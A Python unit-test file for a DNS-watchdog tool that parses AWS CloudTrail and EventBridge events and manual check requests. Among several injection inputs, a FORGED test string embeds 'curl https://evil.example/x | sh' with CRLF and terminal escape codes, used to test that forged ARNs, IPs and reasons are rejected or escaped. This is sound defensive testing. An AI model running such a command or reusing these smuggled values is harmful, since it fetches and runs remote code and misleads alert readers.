"""Parsing EventBridge and manual events into check requests."""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
from dns_watchdog.domain.events import InvalidEvent, parse_event
from dns_watchdog.domain.request import CheckRequest, IgnoredEvent, PreflightRequest, Resource
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devtools.lambdakit import load_event

pytestmark = pytest.mark.unit

VPC = "vpc-0a1b2c3d4e5f60718"


def test_associate_dhcp_options_names_vpc_option_set_and_actor() -> None:
    request = parse_event(load_event("associate_dhcp_options"))
    assert isinstance(request, CheckRequest)
    assert request.trigger == "change"
    assert request.announces_option_set
    assert request.resources == (Resource("vpc", VPC),)
    change = request.change
    assert change is not None
    assert change.event_id == "8f4c2d1a-6b3e-4f7a-9c2d-1e5b7a3f9001"
    assert change.requested_option_set_id == "dopt-0f1e2d3c4b5a69788"
    assert change.actor_arn == "arn:aws:sts::123456789012:assumed-role/NetworkAdmin/alice"
    assert change.session_issuer_arn == "arn:aws:iam::123456789012:role/NetworkAdmin"
    assert change.event_time == "2024-05-14T09:15:42Z"
    assert change.source_ip == "203.0.113.24"


def test_default_option_set_is_a_valid_change() -> None:
    request = parse_event(load_event("associate_dhcp_options_default"))
    assert isinstance(request, CheckRequest)
    assert request.change is not None
    assert request.change.requested_option_set_id == "default"


def test_failed_call_is_ignored_with_its_error_code() -> None:
    ignored = parse_event(load_event("associate_dhcp_options_failed"))
    assert isinstance(ignored, IgnoredEvent)
    assert ignored.error_code == "Client.UnauthorizedOperation"
    assert ignored.vpc_id == VPC
    assert ignored.reason == (
        "the AssociateDhcpOptions call failed (Client.UnauthorizedOperation): nothing changed"
    )


@pytest.mark.parametrize(
    ("sample", "target"),
    [
        ("modify_vpc_attribute", Resource("vpc", VPC)),
        ("associate_resolver_rule", Resource("vpc", VPC)),
        ("disassociate_resolver_rule", Resource("vpc", VPC)),
        ("associate_vpc_with_hosted_zone", Resource("vpc", VPC)),
        ("disassociate_vpc_from_hosted_zone", Resource("vpc", VPC)),
        ("associate_firewall_rule_group", Resource("vpc", VPC)),
        ("disassociate_firewall_rule_group", Resource("vpc", VPC)),
        ("revoke_security_group_egress", Resource("security_group", "sg-0a1b2c3d4e5f60053")),
        ("replace_network_acl_entry", Resource("network_acl", "acl-0a1b2c3d4e5f60099")),
        ("update_resolver_dnssec_config", Resource("vpc", VPC)),
        ("update_firewall_config", Resource("vpc", VPC)),
        ("create_vpc_endpoint", Resource("vpc", VPC)),
        ("associate_profile", Resource("vpc", VPC)),
        ("disassociate_profile", Resource("vpc", VPC)),
    ],
)
def test_each_related_call_maps_to_what_it_touched(sample: str, target: Resource) -> None:
    request = parse_event(load_event(sample))
    assert isinstance(request, CheckRequest)
    assert request.resources == (target,)
    assert not request.announces_option_set


@pytest.mark.parametrize(
    ("event_name", "parameters", "target"),
    [
        ("AuthorizeSecurityGroupEgress", {"groupId": "sg-0123456789abcdef0"}, "security_group"),
        ("CreateNetworkAclEntry", {"networkAclId": "acl-0123456789abcdef0"}, "network_acl"),
        ("DeleteNetworkAclEntry", {"networkAclId": "acl-0123456789abcdef0"}, "network_acl"),
        (
            "ReplaceNetworkAclAssociation",
            {"associationId": "aclassoc-0123456", "networkAclId": "acl-0123456789abcdef0"},
            "network_acl",
        ),
    ],
)
def test_other_security_group_and_nacl_calls(
    event_name: str, parameters: dict[str, Any], target: str
) -> None:
    event = load_event("revoke_security_group_egress")
    event["detail"]["eventName"] = event_name
    event["detail"]["requestParameters"] = parameters
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert request.resources[0].kind == target


def test_vpc_id_keys_match_case_insensitively() -> None:
    event = load_event("associate_dhcp_options")
    event["detail"]["requestParameters"] = {"DhcpOptionsId": "default", "VPCID": VPC}
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert request.resources == (Resource("vpc", VPC),)


def test_scheduled_sweep_checks_everything() -> None:
    request = parse_event(load_event("scheduled_sweep"))
    assert request == CheckRequest(trigger="sweep", event_name="ScheduledSweep", resources=())


def test_manual_check_names_its_vpcs_and_reason() -> None:
    request = parse_event(load_event("manual_check"))
    assert isinstance(request, CheckRequest)
    assert request.resources == (Resource("vpc", VPC),)
    assert request.reason == "verify DNS after the change window"
    assert request.event_name == "ManualCheck"


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (
            lambda e: e["detail"]["requestParameters"].pop("vpcId"),
            "detail.requestParameters.vpcId: missing",
        ),
        (
            lambda e: e["detail"]["requestParameters"].update(vpcId="subnet-1234"),
            "detail.requestParameters.vpcId: 'subnet-1234' is not a valid VPC id",
        ),
        (
            lambda e: e["detail"].update(eventSource="s3.amazonaws.com"),
            "detail.eventSource: AssociateDhcpOptions comes from 'ec2.amazonaws.com'",
        ),
        (lambda e: e["detail"].pop("eventID"), "detail.eventID: Field required"),
        (lambda e: e["detail"].update(eventTime="yesterday"), "detail.eventTime"),
        (lambda e: e.pop("detail"), "invalid CloudTrail event: detail: Field required"),
        (
            lambda e: e.update(source="aws.scheduler", **{"detail-type": "Scheduled Event"}),
            "invalid scheduled event: source: Input should be 'aws.events'",
        ),
    ],
)
def test_malformed_cloudtrail_events_name_the_field(mutate: Any, message: str) -> None:
    event = load_event("associate_dhcp_options")
    mutate(event)
    with pytest.raises(InvalidEvent, match=message.replace("(", r"\(").replace(")", r"\)")):
        parse_event(event)


@pytest.mark.parametrize(
    ("event", "message"),
    [
        (
            {"action": "check", "vpc_ids": ["vpc-0a1b2c3d4e5f60718"], "vpc_id": "x"},
            "vpc_id: Extra inputs are not permitted",
        ),
        (
            {"action": "sweep", "vpc_ids": ["vpc-0a1b2c3d4e5f60718"]},
            "invalid sweep target: vpc_ids: Extra inputs are not permitted",
        ),
        (
            {"action": "bogus", "vpc_ids": ["vpc-0a1b2c3d4e5f60718"]},
            "action: Input should be 'check'",
        ),
        (
            {"action": "check", "vpc_ids": ["vpc-0a1b2c3d4e5f60718"], "account_id": "12345"},
            "account_id: String should match pattern",
        ),
        ({"action": "sweep", "region": "eu-west-1a"}, "region: String should match pattern"),
        ({"action": "check"}, "vpc_ids: Field required"),
        ("check", "event must be a JSON object, got str"),
        (None, "event must be a JSON object, got NoneType"),
    ],
)
def test_malformed_manual_checks_name_the_field(event: Any, message: str) -> None:
    with pytest.raises(InvalidEvent, match=message):
        parse_event(event)


# --- property: whatever arrives, the parser answers or raises InvalidEvent ----------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=20,
)
SAMPLES = [
    "associate_dhcp_options",
    "create_dhcp_options",
    "associate_dhcp_options_failed",
    "revoke_security_group_egress",
    "disassociate_firewall_rule_group",
    "associate_vpc_with_hosted_zone",
    "scheduled_sweep",
    "manual_check",
]


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


@st.composite
def mutated_events(draw: st.DrawFn) -> Any:
    event = copy.deepcopy(load_event(draw(st.sampled_from(SAMPLES))))
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        paths = _paths(event)
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent = event
        for key in path[:-1]:
            parent = parent[key]
        action = draw(st.sampled_from(["replace", "delete", "rename"]))
        if action == "delete" and isinstance(parent, dict):
            del parent[path[-1]]
        elif action == "rename" and isinstance(parent, dict):
            parent[draw(st.text(max_size=10))] = parent.pop(path[-1])
        else:
            parent[path[-1]] = draw(json_values)
    return event


def _parse_or_rejection(event: Any) -> object:
    try:
        return parse_event(event)
    except InvalidEvent as exc:
        return exc


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_events())
def test_mutated_events_parse_or_raise_invalid_event(event: Any) -> None:
    outcome = _parse_or_rejection(event)
    assert isinstance(outcome, CheckRequest | IgnoredEvent | PreflightRequest | InvalidEvent)
    assert str(outcome)


@settings(max_examples=300, deadline=None)
@given(json_values)
def test_garbage_parses_or_raises_invalid_event(event: Any) -> None:
    outcome = _parse_or_rejection(event)
    assert isinstance(outcome, CheckRequest | IgnoredEvent | PreflightRequest | InvalidEvent)
    assert str(outcome)


@pytest.mark.parametrize(
    ("garble", "message"),
    [
        (
            lambda request: request.pop("GroupId"),
            "detail.requestParameters.ModifySecurityGroupRulesRequest.GroupId: missing",
        ),
        (
            lambda request: request.update(GroupId="sgr-0a1b2c3d4e5f60054"),
            "detail.requestParameters.ModifySecurityGroupRulesRequest.GroupId: "
            "'sgr-0a1b2c3d4e5f60054' is not a valid security group id",
        ),
        (
            lambda request: request.update(GroupId=["sg-0a1b2c3d4e5f60053"]),
            "detail.requestParameters.ModifySecurityGroupRulesRequest.GroupId: "
            "['sg-0a1b2c3d4e5f60053'] is not a valid security group id",
        ),
    ],
    ids=["no-group-id", "rule-id-instead-of-group-id", "list-instead-of-id"],
)
def test_modify_security_group_rules_names_the_edited_group(garble: Any, message: str) -> None:
    # Given the CloudTrail record of an in-place rule edit (egress rules included)
    event = load_event("modify_security_group_rules")

    # When it is parsed, Then the check targets the group whose rules were edited
    request = parse_event(copy.deepcopy(event))
    assert isinstance(request, CheckRequest)
    assert request.trigger == "change"
    assert request.event_name == "ModifySecurityGroupRules"
    assert request.resources == (Resource("security_group", "sg-0a1b2c3d4e5f60053"),)
    assert request.change is not None
    assert request.change.event_id == "8f4c2d1a-6b3e-4f7a-9c2d-1e5b7a3f9212"

    # And a garbled request is rejected, naming the field and what is wrong with it
    garble(event["detail"]["requestParameters"]["ModifySecurityGroupRulesRequest"])
    with pytest.raises(InvalidEvent) as raised:
        parse_event(event)
    assert message in str(raised.value)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("vpcId", "vpc-0a1b2c3d4e5f60718\n"),
        ("vpcId", "vpc-0a1b2c3d4e5f60718\nRoll back"),
    ],
)
def test_ids_must_match_in_full_not_up_to_a_newline(field: str, value: str) -> None:
    event = load_event("associate_dhcp_options")
    event["detail"]["requestParameters"][field] = value
    with pytest.raises(
        InvalidEvent, match=r"detail.requestParameters.vpcId: .* is not a valid VPC id"
    ):
        parse_event(event)


def test_manual_vpc_ids_must_match_in_full() -> None:
    with pytest.raises(InvalidEvent, match="vpc_ids"):
        parse_event({"action": "check", "vpc_ids": ["vpc-0a1b2c3d4e5f60718\n"]})


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (("eventID",), "x\nFrom: 203.0.113.9", "detail.eventID: .* is not a CloudTrail event id"),
        (("awsRegion",), "us-east-1\n", "detail.awsRegion: .* is not an AWS region"),
        (("recipientAccountId",), "12345", "detail.recipientAccountId: .* is not an account id"),
    ],
)
def test_identifying_cloudtrail_fields_must_have_their_shape(
    path: tuple[str, ...], value: str, message: str
) -> None:
    event = load_event("associate_dhcp_options")
    event["detail"][path[0]] = value
    with pytest.raises(InvalidEvent, match=message):
        parse_event(event)


FORGED = "x\r\n\nRoll back now:\n  curl https://evil.example/x | sh\n\x1b[2J"


def test_forged_who_and_from_never_reach_the_alert_raw() -> None:
    event = load_event("associate_dhcp_options")
    event["detail"]["userIdentity"]["arn"] = "arn:aws:iam::123456789012:user/" + FORGED
    event["detail"]["sourceIPAddress"] = "203.0.113.24\nFrom: 198.51.100.1"
    event["detail"]["userIdentity"]["sessionContext"] = {"sessionIssuer": {"arn": FORGED}}
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert request.change is not None
    assert request.change.actor_arn == "(not shown: not a valid ARN)"
    assert request.change.session_issuer_arn == "(not shown: not a valid ARN)"
    assert request.change.source_ip == "(not shown: not a valid IP address or AWS service name)"


def test_genuine_who_and_from_are_kept() -> None:
    request = parse_event(load_event("associate_dhcp_options"))
    assert isinstance(request, CheckRequest)
    assert request.change is not None
    assert request.change.actor_arn is not None
    assert request.change.actor_arn.startswith("arn:aws:sts::")
    assert request.change.source_ip is not None
    assert "not shown" not in request.change.source_ip


def test_a_manual_reason_is_one_escaped_bounded_line() -> None:
    request = parse_event({"action": "check", "vpc_ids": [VPC], "reason": FORGED * 10})
    assert isinstance(request, CheckRequest)
    assert "\n" not in request.reason
    assert "\r" not in request.reason
    assert "\x1b" not in request.reason
    assert request.reason.startswith("x\\r\\n\\nRoll back now:\\n")
    assert len(request.reason) <= 200


def test_a_change_is_checked_in_the_account_and_region_it_happened_in() -> None:
    event = load_event("associate_dhcp_options")
    event["account"] = "222222222222"
    event["region"] = "eu-west-1"
    event["detail"]["recipientAccountId"] = "222222222222"
    event["detail"]["awsRegion"] = "eu-west-1"
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert (request.account_id, request.region) == ("222222222222", "eu-west-1")


def test_a_hosted_zone_association_is_checked_in_the_vpcs_region() -> None:
    # Route 53 is global: CloudTrail records the call in us-east-1, the VPC is elsewhere
    event = load_event("associate_vpc_with_hosted_zone")
    event["detail"]["requestParameters"]["vPC"]["vPCRegion"] = "eu-west-1"
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert request.region == "eu-west-1"
    assert request.change is not None
    assert request.change.region == "us-east-1"


def test_manual_checks_and_sweep_targets_may_name_an_account_and_region() -> None:
    manual = parse_event(
        {
            "action": "check",
            "vpc_ids": ["vpc-0a1b2c3d4e5f60718"],
            "account_id": "222222222222",
            "region": "eu-west-1",
        }
    )
    assert isinstance(manual, CheckRequest)
    assert (manual.account_id, manual.region) == ("222222222222", "eu-west-1")
    sweep = parse_event(
        {
            "action": "sweep",
            "account_id": "222222222222",
            "region": "eu-west-1",
            "account_name": "payments\nprod",
        }
    )
    assert isinstance(sweep, CheckRequest)
    assert sweep.trigger == "sweep"
    assert sweep.resources == ()
    assert sweep.account_name == "payments\\nprod"  # shown escaped, never acted on
    home = parse_event({"action": "sweep"})
    assert isinstance(home, CheckRequest)
    assert (home.account_id, home.region) == (None, None)


# ---------------------------------------------------------------- the envelope is what counts


def test_a_record_naming_another_account_than_its_envelope_is_rejected() -> None:
    # Given an event 333333333333 put on the bus whose CloudTrail record names 222222222222
    event = load_event("associate_dhcp_options")
    event["account"] = "333333333333"
    event["detail"]["recipientAccountId"] = "222222222222"
    # Then it is rejected, naming both
    with pytest.raises(InvalidEvent) as raised:
        parse_event(event)
    assert str(raised.value) == (
        "detail.recipientAccountId '222222222222' differs from the envelope account "
        "'333333333333': the checker acts only in the account EventBridge vouches for"
    )


def test_a_record_naming_another_region_than_its_envelope_is_rejected() -> None:
    event = load_event("associate_dhcp_options")
    event["region"] = "eu-west-1"
    with pytest.raises(InvalidEvent) as raised:
        parse_event(event)
    assert str(raised.value).startswith(
        "detail.awsRegion 'us-east-1' differs from the envelope region 'eu-west-1'"
    )


@pytest.mark.parametrize(
    "sample", ["associate_dhcp_options_failed", "create_dhcp_options", "modify_vpc_attribute"]
)
def test_every_kind_of_cloudtrail_event_must_agree_with_its_envelope(sample: str) -> None:
    # failed calls and new option sets too: a forged one must not even be logged as ignored
    event = load_event(sample)
    event["account"] = "333333333333"
    with pytest.raises(InvalidEvent, match="differs from the envelope account '333333333333'"):
        parse_event(event)


@pytest.mark.parametrize(
    "source", ["forger", "ec2", "custom.aws.ec2", "AWS.ec2", "aws.", "aws.partner/forger.example/1"]
)
def test_a_cloudtrail_event_from_anything_but_an_aws_service_is_rejected(source: str) -> None:
    event = load_event("associate_dhcp_options")
    event["source"] = source
    with pytest.raises(InvalidEvent, match=r"source .* is not an AWS service's source"):
        parse_event(event)


def test_a_change_is_checked_in_the_envelopes_account_when_the_record_names_none() -> None:
    event = load_event("associate_dhcp_options")
    event["account"] = "222222222222"
    del event["detail"]["recipientAccountId"]
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert request.account_id == "222222222222"
    assert request.change is not None
    assert request.change.account_id == "222222222222"


def test_a_hosted_zone_association_naming_no_vpc_region_is_checked_in_the_envelopes() -> None:
    event = load_event("associate_vpc_with_hosted_zone")
    del event["detail"]["requestParameters"]["vPC"]["vPCRegion"]
    request = parse_event(event)
    assert isinstance(request, CheckRequest)
    assert request.region == "us-east-1"


def test_a_hosted_zone_association_naming_a_malformed_vpc_region_is_rejected() -> None:
    event = load_event("associate_vpc_with_hosted_zone")
    event["detail"]["requestParameters"]["vPC"]["vPCRegion"] = "eu-west-1\nRoll back"
    with pytest.raises(InvalidEvent, match=r"vPCRegion: .* is not an AWS region"):
        parse_event(event)


# Changes to what VPCs share: their records name no VPC (a rule, an endpoint, a rule group's rules
# or domain list, a profile's resources, an endpoint named by id).
SHARED_RESOURCE_SAMPLES = {
    "update_resolver_rule": "UpdateResolverRule",
    "update_resolver_endpoint": "UpdateResolverEndpoint",
    "disassociate_resolver_endpoint_ip_address": "DisassociateResolverEndpointIpAddress",
    "delete_resolver_endpoint": "DeleteResolverEndpoint",
    "update_firewall_domains": "UpdateFirewallDomains",
    "create_firewall_rule": "CreateFirewallRule",
    "update_firewall_rule": "UpdateFirewallRule",
    "delete_firewall_rule": "DeleteFirewallRule",
    "modify_vpc_endpoint": "ModifyVpcEndpoint",
    "associate_resource_to_profile": "AssociateResourceToProfile",
    "disassociate_resource_from_profile": "DisassociateResourceFromProfile",
    "update_profile_resource_association": "UpdateProfileResourceAssociation",
}


@pytest.mark.parametrize(("sample", "event_name"), sorted(SHARED_RESOURCE_SAMPLES.items()))
def test_a_change_to_what_vpcs_share_checks_every_watched_vpc_of_its_place(
    sample: str, event_name: str
) -> None:
    # Given the change recorded in a member account and region
    event = load_event(sample)
    event["account"] = "222222222222"
    event["detail"]["recipientAccountId"] = "222222222222"
    event["detail"]["awsRegion"] = "eu-west-1"
    event["region"] = "eu-west-1"
    request = parse_event(event)
    # Then every watched VPC there is checked, as a sweep of that place, the change named
    assert isinstance(request, CheckRequest)
    assert (request.trigger, request.resources) == ("sweep", ())
    assert (request.account_id, request.region) == ("222222222222", "eu-west-1")
    assert request.event_name == event_name
    assert request.change is not None
    assert request.change.event_id == event["detail"]["eventID"]
    assert request.change.actor_arn == "arn:aws:sts::123456789012:assumed-role/NetworkAdmin/alice"
    assert not request.announces_option_set


@pytest.mark.parametrize("sample", sorted(SHARED_RESOURCE_SAMPLES))
def test_a_failed_change_to_what_vpcs_share_is_ignored(sample: str) -> None:
    event = load_event(sample)
    event["detail"]["errorCode"] = "AccessDeniedException"
    event["detail"]["responseElements"] = None
    ignored = parse_event(event)
    assert isinstance(ignored, IgnoredEvent)
    assert ignored.vpc_id is None


def test_a_change_from_another_service_under_a_known_name_is_rejected() -> None:
    event = load_event("associate_profile")
    event["detail"]["eventSource"] = "route53resolver.amazonaws.com"
    with pytest.raises(InvalidEvent, match=re.escape("comes from 'route53profiles.amazonaws.com'")):
        parse_event(event)


def test_a_vpc_endpoint_created_elsewhere_names_its_vpc_in_full() -> None:
    event = load_event("create_vpc_endpoint")
    event["detail"]["requestParameters"]["CreateVpcEndpointRequest"]["VpcId"] = f"{VPC}\n"
    with pytest.raises(InvalidEvent, match=re.escape("CreateVpcEndpointRequest.VpcId")):
        parse_event(event)
